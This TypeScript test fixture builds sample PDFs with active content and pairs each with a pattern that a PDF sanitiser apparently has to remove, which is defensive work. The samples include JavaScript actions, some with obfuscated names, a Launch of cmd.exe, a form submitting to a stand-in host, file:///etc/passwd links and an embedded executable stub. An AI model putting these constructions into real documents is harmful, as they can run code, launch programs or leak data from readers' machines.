import { onePagePdf, type RawObject } from './raw-pdf.ts'

/** Something on the page, and where. */
export const annotation = (body: string) => ({ page: `/Annots[<</Type/Annot/Rect[72 690 200 720]${body}>>]` })
export const script = '/S/JavaScript/JS(app.alert\\(1\\))'
const attachment: RawObject[] = [
  '<</Type/Filespec/F(ondt.exe)/UF(ondt.exe)/EF<</F 7 0 R>>>>',
  { dictionary: '/Type/EmbeddedFile', data: Buffer.from('MZ-ONDT') },
]
/** Files with something that acts, the words for it, and what none of the served file may hold. */
export const activePdfs: readonly [name: string, pdf: Buffer, gone: RegExp][] = [
  [
    'a script at opening',
    onePagePdf({ catalog: `/OpenAction<<${script}>>` }),
    /app\.alert|JavaScript|OpenAction/,
  ],
  [
    'scripts in the name tree',
    onePagePdf({ catalog: `/Names<</JavaScript<</Names[(a)<<${script}>>]>>>>` }),
    /app\.alert|JavaScript/,
  ],
  ['a script when a page opens', onePagePdf({ page: `/AA<</O<<${script}>>>>` }), /app\.alert|\/AA/],
  ['a script on a link', onePagePdf(annotation(`/Subtype/Link/A<<${script}>>`)), /app\.alert/],
  [
    'a script whose name is spelt with escapes',
    onePagePdf(annotation('/Subtype/Link/A<</S/Java#53cript/J#53(app.alert\\(1\\))>>')),
    /app\.alert/,
  ],
  [
    'a script whose type stands elsewhere',
    onePagePdf({
      ...annotation('/Subtype/Link/A 6 0 R'),
      more: ['<</S 7 0 R/JS(app.alert\\(1\\))>>', '/JavaScript'],
    }),
    /app\.alert/,
  ],
  [
    'a script dressed as a structure element',
    onePagePdf({
      ...annotation('/Subtype/Link/A 6 0 R'),
      more: [`<</Type/StructElem/K 1/P 3 0 R${script}>>`],
    }),
    /app\.alert/,
  ],
  [
    'a script behind a harmless action',
    onePagePdf(annotation(`/Subtype/Link/A<</S/GoTo/D[3 0 R/Fit]/Next<<${script}>>>>`)),
    /app\.alert/,
  ],
  [
    'a program to launch',
    onePagePdf(annotation('/Subtype/Link/A<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)>>>>')),
    /Launch|cmd\.exe/,
  ],
  [
    'a form that sends',
    onePagePdf(annotation('/Subtype/Widget/FT/Btn/T(k)/A<</S/SubmitForm/F(http://ond.example/)>>')),
    /SubmitForm|ond\.example/,
  ],
  [
    'data to import',
    onePagePdf(annotation('/Subtype/Link/A<</S/ImportData/F(x.fdf)>>')),
    /ImportData|x\.fdf/,
  ],
  [
    'another file to go to',
    onePagePdf(annotation('/Subtype/Link/A<</S/GoToR/F(\\\\\\\\ond\\\\del)/D[0/Fit]>>')),
    /GoToR/,
  ],
  [
    'a file attached to a page',
    onePagePdf({ ...annotation('/Subtype/FileAttachment/FS 6 0 R'), more: attachment }),
    /FileAttachment|MZ-ONDT|EmbeddedFile/,
  ],
  [
    'a file attached to the document',
    onePagePdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>/AF[6 0 R]', more: attachment }),
    /MZ-ONDT|EmbeddedFile/,
  ],
  ['rich media', onePagePdf(annotation('/Subtype/RichMedia/RichMediaContent<</Assets<<>>>>')), /RichMedia/],
  [
    'a form of XFA',
    onePagePdf({
      ...annotation('/Subtype/Widget/FT/Tx/T(a)'),
      catalog: '/AcroForm<</Fields[6 0 R]/XFA(<xdp/>)>>',
      more: ['<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]>>'],
    }),
    /XFA/,
  ],
  [
    'a form of XFA whose only key names what is drawn',
    onePagePdf({
      catalog: '/AcroForm 7 0 R',
      page: '/Annots[8 0 R]',
      more: [
        { dictionary: '/Subtype/Form/BBox[0 0 1 1]', data: Buffer.from('<xdp/>') },
        '<</XFA 6 0 R>>',
        '<</Type/Annot/Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]>>',
      ],
    }),
    /XFA/,
  ],
  [
    'a link with a script for address',
    onePagePdf(annotation('/Subtype/Link/A<</S/URI/URI( JAVA\\nscript:alert\\(1\\))>>')),
    /alert/,
  ],
  ['a link to a file', onePagePdf(annotation('/Subtype/Link/A<</S/URI/URI(file:///etc/passwd)>>')), /passwd/],
  [
    'a link whose address stands elsewhere',
    onePagePdf({ ...annotation('/Subtype/Link/A<</S/URI/URI 6 0 R>>'), more: ['(file:///etc/passwd)'] }),
    /passwd/,
  ],
  ['a menu command', onePagePdf(annotation('/Subtype/Link/A<</S/Named/N/SaveAs>>')), /SaveAs/],
  ['an action nobody knows', onePagePdf(annotation('/Subtype/Link/A<</S/Frobnicate/X(farlig)>>')), /farlig/],
  [
    'a stream that lives outside the file',
    onePagePdf({
      page: '/Metadata 6 0 R',
      more: [{ dictionary: '/F(http://ond.example/x)', data: Buffer.from('') }],
    }),
    /ond\.example/,
  ],
]
